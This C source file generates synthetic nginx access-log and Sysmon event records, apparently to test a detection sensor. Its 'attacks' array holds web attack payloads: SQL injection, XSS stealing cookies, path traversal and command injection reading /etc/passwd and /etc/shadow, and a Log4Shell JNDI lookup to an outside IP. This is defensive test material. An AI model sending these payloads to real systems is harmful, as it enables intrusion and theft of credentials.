/* SPDX-License-Identifier: Apache-2.0 */
/* Records as a sensor makes them out of access logs (lines in the manner of W1) and of Windows events as JSON. */
#include "w6.h"

#include "base/ban.h"

#define ZONE_S 32400

static const char *const pages[] = {"/", "/index.html", "/about/", "/products/list.php?page=2&sort=price",
	"/assets/css/site.min.css?v=20260401", "/assets/js/app.bundle.js", "/images/header/main-visual_pc.jpg",
	"/news/2026/11/information-20261103.html", "/contact/form.php", "/api/v1/items?category=12&limit=50",
	"/search?q=%E6%A4%9C%E7%B4%A2+%E7%B5%90%E6%9E%9C&lang=ja", "/favicon.ico", "/robots.txt",
	"/wp-content/uploads/2026/05/photo_0012-300x200.png"};
static const char *const agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:144.0) Gecko/20100101 Firefox/144.0",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"};
/* Each of them is found by a rule of the own pack. */
static const char *const attacks[] = {
	"/products/list.php?page=2%27%20UNION%20SELECT%20user,password%20FROM%20members--%20-",
	"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
	"/download.php?file=../../../../../../etc/passwd",
	"/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/shadow",
	"/search?q=${jndi:ldap://198.51.100.20:1389/a}",
	"/index.php?page=php://filter/convert.base64-encode/resource=config",
	"/.git/config",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/item.php?id=1%20AND%20SLEEP(5)"};
static const char *const programs[] = {"svchost.exe", "conhost.exe", "backgroundTaskHost.exe", "RuntimeBroker.exe",
	"SearchProtocolHost.exe", "taskhostw.exe", "MpCmdRun.exe", "EXCEL.EXE", "msedge.exe", "dllhost.exe"};
static const char *const people[] = {"tanaka", "suzuki", "sato", "SYSTEM", "LOCAL SERVICE", "yamada"};
static const char *const months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

/* xorshift64*: any fixed generator would do. */
uint32_t w6_chance(struct w6_maker *maker, uint32_t below)
{
	maker->state ^= maker->state >> 12;
	maker->state ^= maker->state << 25;
	maker->state ^= maker->state >> 27;
	return (uint32_t)((maker->state * UINT64_C(2685821657736338717)) >> 32) % below;
}

static void add_string(struct yg_buf *to, struct yg_bytes text)
{
	size_t from = 0;

	yg_buf_add_byte(to, '"');
	for (size_t i = 0; i < text.size; i++) {
		if (text.data[i] != '"' && text.data[i] != '\\')
			continue;
		yg_buf_add(to, yg_bytes_cut(yg_bytes_from(text, from), 0, i - from));
		yg_buf_add_byte(to, '\\');
		from = i;
	}
	yg_buf_add(to, yg_bytes_from(text, from));
	yg_buf_add_byte(to, '"');
}

static void begin(struct yg_buf *to, const char *format, const char *source, uint64_t position, int64_t time_ns)
{
	char iso[YG_ISO_SIZE];

	(void)yg_time_iso(time_ns, 0, iso);
	yg_buf_addf(to, "{\"v\":1,\"format\":\"%s\",\"source\":\"%s\",\"position\":%llu,\"time\":\"%s\",\"has_zone\":true,",
		    format, source, (unsigned long long)position, iso);
}

static void make_access(struct w6_maker *maker, struct yg_buf *to, enum w6_kind kind, uint64_t position,
			int64_t time_ns, uint64_t mark)
{
	static const int codes[] = {200, 200, 200, 200, 200, 200, 304, 301, 404, 500};
	bool is_attack = kind != W6_ACCESS;
	const char *path = kind == W6_MARK ? "/.git/config"
			   : is_attack ? attacks[w6_chance(maker, sizeof(attacks) / sizeof(attacks[0]))]
				       : pages[w6_chance(maker, sizeof(pages) / sizeof(pages[0]))];
	uint32_t number = w6_chance(maker, 20000);
	int status = is_attack ? 404 : codes[w6_chance(maker, 10)];
	unsigned bytes = status == 304 ? 0 : 200 + w6_chance(maker, 20000);
	const char *method = w6_chance(maker, 20) ? "GET" : "POST";
	const char *agent = agents[number % 4];
	struct yg_civil c;
	char address[48];
	char source[64] = "/var/log/nginx/access.log";
	char text[64];

	time_ns -= time_ns % YG_NS_PER_S; /* such logs know no more */
	c = yg_time_civil(time_ns, ZONE_S);
	(void)snprintf(address, sizeof(address), "11.%u.%u.%u", number / 256 % 256, number / 16 % 256, number % 251 + 1);
	if (kind == W6_MARK) { /* an address and a log of its own: a finding of its own */
		(void)snprintf(source, sizeof(source), "/planted/%llu", (unsigned long long)mark);
		(void)snprintf(address, sizeof(address), "198.%u.%u.%u", 18 + (unsigned)(mark >> 16) % 2,
			       (unsigned)(mark >> 8) % 256, (unsigned)mark % 256);
	}
	(void)snprintf(text, sizeof(text), "%02u/%s/%d:%02u:%02u:%02u +0900", c.day, months[c.month - 1], c.year, c.hour,
		       c.minute, c.second);
	yg_buf_reset(&maker->line);
	yg_buf_addf(&maker->line, "%s - - [%s] \"%s %s HTTP/1.1\" %d %u \"-\" \"%s\"", address, text, method, path, status,
		    bytes, agent);
	begin(to, "access", source, position, time_ns);
	yg_buf_addf(to, "\"time_text\":\"%s\",\"raw\":", text);
	add_string(to, yg_buf_bytes(&maker->line));
	yg_buf_addf(to,
		    ",\"fields\":{\"c-ip\":\"%s\",\"cs-method\":\"%s\",\"cs-uri\":\"%s\",\"cs-version\":\"HTTP/1.1\","
		    "\"sc-status\":%d,\"sc-bytes\":%u,\"cs-user-agent\":\"%s\"}}\n",
		    address, method, path, status, bytes, agent);
}

static void make_windows(struct w6_maker *maker, struct yg_buf *to, uint64_t position, int64_t time_ns)
{
	uint32_t number = w6_chance(maker, 1u << 24);
	const char *program = programs[number % 10];
	const char *parent = programs[number / 10 % 10];
	const char *who = people[number / 100 % 6];
	char iso[YG_ISO_SIZE];

	time_ns -= time_ns % 1000000;
	(void)yg_time_iso(time_ns, 0, iso);
	yg_buf_reset(&maker->line);
	yg_buf_addf(&maker->line,
		    "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,"
		    "\"Provider_Name\":\"Microsoft-Windows-Sysmon\",\"Computer\":\"PC%03u.example.local\",\"EventRecordID\":%llu,"
		    "\"@timestamp\":\"%s\",\"RuleName\":\"-\",\"ProcessGuid\":\"{b3c285a4-5f1e-6db8-0000-0010%08x}\","
		    "\"ProcessId\":%u,\"Image\":\"C:\\\\Windows\\\\System32\\\\%s\",\"FileVersion\":\"10.0.19041.1 (WinBuild.160101.0800)\","
		    "\"Description\":\"Host Process\",\"Product\":\"Microsoft Windows Operating System\",\"Company\":\"Microsoft Corporation\","
		    "\"OriginalFileName\":\"%s\",\"CommandLine\":\"C:\\\\Windows\\\\System32\\\\%s -k netsvcs -p -s Service%u\","
		    "\"CurrentDirectory\":\"C:\\\\Windows\\\\system32\\\\\",\"User\":\"EXAMPLE\\\\%s\",\"LogonId\":\"0x%x\","
		    "\"TerminalSessionId\":%u,\"IntegrityLevel\":\"Medium\",\"Hashes\":\"SHA1=%08x%08x%08x%08x%08x\","
		    "\"ParentProcessId\":%u,\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\%s\",\"ParentCommandLine\":\"C:\\\\Windows\\\\System32\\\\%s\"}",
		    number % 500, (unsigned long long)position, iso, number, number % 60000, program, program, program,
		    number % 97, who, number % 65536, number % 4, number, number * 3u, number * 5u, number * 7u, number * 11u,
		    number / 7 % 60000, parent, parent);
	begin(to, "windows", "C:/events.json", position, time_ns);
	yg_buf_addf(to, "\"time_text\":\"%s\",\"raw\":", iso);
	add_string(to, yg_buf_bytes(&maker->line));
	yg_buf_add_str(to, ",\"fields\":");
	yg_buf_add(to, yg_buf_bytes(&maker->line));
	yg_buf_add_str(to, "}\n");
}

void w6_make(struct w6_maker *maker, struct yg_buf *to, enum w6_kind kind, uint64_t position, int64_t time_ns,
	     uint64_t mark)
{
	if (kind == W6_WINDOWS)
		make_windows(maker, to, position, time_ns);
	else
		make_access(maker, to, kind, position, time_ns, mark);
}
